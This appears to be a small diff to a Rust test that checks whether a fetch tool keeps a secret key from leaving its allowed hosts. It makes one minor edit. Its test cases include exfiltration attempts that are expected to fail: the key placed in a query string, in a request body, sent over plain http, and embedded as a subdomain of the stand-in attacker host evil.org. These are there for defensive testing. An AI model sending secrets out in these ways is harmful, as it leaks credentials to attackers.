@@ -266,7 +266,7 @@ async fn a_secret_goes_to_its_hosts_alone() {
         (server.url(OTHER, "/?k=$KEY"), "x-key: none", ""),
         (server.url(OTHER, "/"), "x-key: none", "k=$KEY"),
         (server.url(HOST, "/").replace("https", "http"), "x-key: $KEY", ""),
-        (format!("https://$KEY.evil.org/"), "x-key: $KEY", ""),
+        ("https://$KEY.evil.org/".to_owned(), "x-key: $KEY", ""),
     ] {
         let host = Host::default();
         let reason = failed(fetch(&host, &skill, &url, &[header], body).await);
